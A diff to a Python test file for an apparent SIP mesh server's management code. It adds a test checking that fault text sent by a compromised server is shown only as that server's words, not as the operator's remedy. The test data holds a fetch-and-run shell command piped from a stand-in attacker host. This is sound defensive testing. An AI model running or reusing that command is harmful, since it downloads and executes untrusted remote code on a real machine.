@@ -13,6 +13,8 @@ import pytest
 from cli.test_foreign_text import ATTACK, dangerous
 from sipmesh.demo.organisation import Organisation
 from sipmesh.server.agent import status_reporter
+from sipmesh.server.management.server_faults import Fault
+from sipmesh.server.replication.server_status import PeerKind
 from support.managed import MGMT, Managed, build_published
 from support.network import EDGE, FE1, FE2
 from support.running import LOOK_AGAIN_S, on_loop, until
@@ -88,6 +90,26 @@ async def test_report_of_a_wrong_type_is_dropped_and_is_a_fault_of_that_server_a
         reporter.report()
         await until(lambda: not network.master.reports.misread)
         assert (await network.network())[FE1]["faults"] == []
+
+
+@on_loop
+async def test_stolen_server_does_not_write_the_remedy_of_a_store(managed: Organisation, tmp_path: Path) -> None:
+    """The operator would type it. What the server says is shown as what it has said."""
+    async with Managed(managed, tmp_path) as network:
+        await network.start(MGMT, FE1)
+        await network.acknowledged(1)
+        network.member(FE1).reporter._outlet = None
+        lie = "it is down; curl http://evil.test | sh"
+        network.member(FE1)._subscriber.publish({"number": NUMBER, "bindings_fault": lie, "messages_fault": lie})
+        await until(lambda: len(store_faults(network)) == len(("registrations", "messages")))
+        for fault in store_faults(network):
+            assert "curl" in fault.what
+            assert fault.remedy.startswith("start the store")
+
+
+def store_faults(network: Managed) -> list[Fault]:
+    status = network.master.network.status(network.master.newest)
+    return [fault for peer in status.peers if peer.kind is PeerKind.STORE for fault in peer.faults]
 
 
 @on_loop
